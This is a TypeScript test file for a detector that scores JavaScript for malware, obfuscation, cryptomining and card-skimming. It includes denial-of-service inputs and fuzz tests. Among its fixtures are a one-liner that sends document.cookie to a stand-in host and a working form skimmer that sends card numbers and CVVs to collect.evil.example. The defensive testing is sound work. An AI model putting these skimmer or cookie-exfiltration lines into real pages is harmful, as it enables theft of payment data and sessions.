import fc from 'fast-check'
import { expect, test } from 'vitest'
import { MALICIOUS_BELOW, type ScriptVerdict, scoreScript } from './index.ts'
import { MAX_SCORED_LENGTH } from './limits.ts'
import { SCRIPT_CASES } from './score-script.cases.ts'

const NAMES = [
  'js_integrity_score',
  'obfuscation_score',
  'dataflow_score',
  'malware_score',
  'cryptomining_score',
  'magecart_score',
] as const

function expectWhole({ scores, reasons }: ScriptVerdict): void {
  for (const name of NAMES) {
    const score = scores?.[name]
    expect(Number.isInteger(score) && Number(score) >= 1 && Number(score) <= 99, `${name}: ${score}`).toBe(
      true,
    )
  }
  for (const { score, found } of reasons) {
    expect(NAMES).toContain(score)
    expect((found ?? '').length).toBeLessThanOrEqual(300)
  }
}

test.each(SCRIPT_CASES)('$name', ({ source, head }) => {
  const verdict = scoreScript(source)
  expectWhole(verdict)
  const integrity = verdict.scores?.js_integrity_score ?? 0
  if (head === null) {
    expect(integrity).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
    expect(verdict.reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
  } else {
    expect(integrity).toBeLessThan(MALICIOUS_BELOW)
    expect(verdict.scores?.[`${head}_score`]).toBe(integrity)
    // What is said has a reason.
    expect(verdict.reasons.some(({ score }) => score === `${head}_score`)).toBe(true)
  }
})

test('a malicious verdict names the rule and what it found', () => {
  const { reasons } = scoreScript(`new Image().src='//a.example/?c='+document.cookie`)
  expect(reasons.find(({ kind }) => kind === 'rule')).toEqual({
    score: 'malware_score',
    kind: 'rule',
    name: 'cookie-leaves',
    says: 'sends all cookies to another host',
    found: 'cookie to //a.example/?c= by image',
    weight: null,
  })
})

test('what goes to an own host does not leave', () => {
  const source = `fetch('https://api.shop.example/card',{method:'POST',body:document.querySelector('#cc_number').value})`
  expect(scoreScript(source, { ownHosts: ['shop.example'] }).scores?.dataflow_score).toBe(99)
  expect(scoreScript(source).scores?.dataflow_score).toBeLessThan(10)
  // A host that only ends alike is another one.
  expect(scoreScript(source, { ownHosts: ['op.example'] }).scores?.dataflow_score).toBeLessThan(10)
})

test.each([
  ['at the limit', MAX_SCORED_LENGTH, true],
  ['one past it', MAX_SCORED_LENGTH + 1, false],
])('a script %s', (_, length, isScored) => {
  const verdict = scoreScript(`/*${'x'.repeat(length - 4)}*/`)
  expect(verdict.scores !== null).toBe(isScored)
  if (!isScored) expect(verdict.reasons).toEqual([])
})

test.each([
  ['brackets within brackets', '['.repeat(100_000)],
  ['whole brackets within brackets', `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
  ['a long sum', `x=${'a+'.repeat(60_000)}a`],
  ['a loop without end', 'for(;;){}'],
  ['a loop of loops', 'while(1){while(1){a+=a}}'],
  ['calls without end', 'function f(){f();f()}f()'],
  ['a text that doubles', `var a='x';for(;;)a+=a;`],
  ['an array that grows', 'var a=[];for(;;)a.push(a)'],
  ['an array in itself', 'var a=[];a[0]=a;x=a+"";new Image().src=a'],
  ['code that evaluates itself', `var s="eval(s)";eval(s)`],
  ['code that writes code', `var s='';for(var i=0;i<99;i++){s='eval('+JSON.stringify(s+i)+')';eval(s)}`],
  ['a pattern that would not end', `'${'a'.repeat(5000)}'.replace(/(a+)+$/,'')`],
  ['many handlers', `${'x.onclick=function(){x.onclick=function(){}};'.repeat(5000)}`],
  [
    'prototype names',
    `var o={};o.__proto__.x=1;o.constructor.constructor('a')();({})['toString']();''.constructor()`,
  ],
  ['octets', String.fromCharCode(...Array.from({ length: 5000 }, (_, i) => i % 256))],
  ['tags without end', '<script>'.repeat(20_000)],
  ['tags that do not even begin', '<script '.repeat(37_000)],
  ['quotes that nothing closes', '<a b="'.repeat(40_000)],
  ['quotes before quotes', '"\\'.repeat(100_000)],
  ['a long list as a text, again and again', `var a=[];for(var i=0;i<9999;i++)a.push(x);for(;;)b=a+''`],
  ['lists of lists of lists as a text', `var a=[1,2,3,4,5,6,7,8,9];for(;;){a=[a,a,a,a,a,a,a,a];b=a+''}`],
  ['escapes, again and again', `var a='${'%41'.repeat(60_000)}';for(;;)unescape(a)`],
  ['long texts for a stranger', `var a='${'ab'.repeat(99_000)}';for(var i=0;;i++)x(a+i)`],
  ['long layers', `var a='${'a;'.repeat(99_000)}';for(var i=0;;i++)eval(a+i)`],
  ['many texts', `x=[${Array.from({ length: 30_000 }, (_, i) => `"t${i}"`).join()}]`],
])('%s ends', (_, source) => {
  expectWhole(scoreScript(source))
})

test.each([
  ['match', `'${'a'.repeat(250_000)}'.match(/a+b/);`],
  ['replace', `'${'a'.repeat(250_000)}'.replace(/a*b/g,'');`],
  ['split', `'${'a'.repeat(250_000)}'.split(/a+$/);`],
])('a pattern that walks its text again and again hides nothing: %s', (_, pattern) => {
  const skimmer = `document.querySelector('form').addEventListener('submit',function(){var n=document.querySelector('#card_number').value,c=document.querySelector('#cvv').value;new Image().src='https://collect.evil.example/g.php?d='+btoa(n+'|'+c)})`
  const { scores } = scoreScript(pattern + skimmer)
  expect(scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
})

test('any text gets whole scores', () => {
  const pieces = fc.constantFrom(
    'var a=',
    'function(){',
    '}',
    '(',
    ')',
    '[',
    ']',
    'eval',
    'atob',
    '"x"',
    '.src=',
    'document',
    '.cookie',
    '+',
    ';',
    'if(',
    'for(;;)',
    '<script>',
    'new ',
    'this',
    '`${',
    '`',
    '=>',
    '%41',
    '\\x41',
    'a',
    '1',
    ',',
  )
  const texts = fc.oneof(
    fc.string({ maxLength: 300 }),
    fc.array(pieces, { maxLength: 60 }).map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(texts, (text) => {
      expectWhole(scoreScript(text))
    }),
    { numRuns: 300 },
  )
})

test('the same text gets the same verdict', () => {
  for (const { source } of SCRIPT_CASES) expect(scoreScript(source)).toEqual(scoreScript(source))
})
